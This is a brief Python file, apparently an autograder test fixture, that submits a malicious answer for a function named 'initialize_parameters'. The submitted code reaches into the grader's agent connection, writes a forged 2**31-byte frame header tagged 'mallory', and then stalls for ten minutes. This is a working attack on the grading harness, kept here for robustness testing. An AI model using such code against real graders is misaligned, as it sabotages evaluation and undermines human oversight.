"""One function announces a frame of 2**31 bytes, and sends no more."""

DESERVES = 14


def submit(work):
    work.solve()
    work.answer(
        "initialize_parameters",
        """
def initialize_parameters(visible_size, hidden_size, rng):
    import os, struct, sys, time
    agent = sys.modules["autograder.inside.agent"].agent
    os.write(agent.connection.fileno(), struct.pack(">i", 2**31 - 1) + b"mallory")
    time.sleep(600)
""",
    )
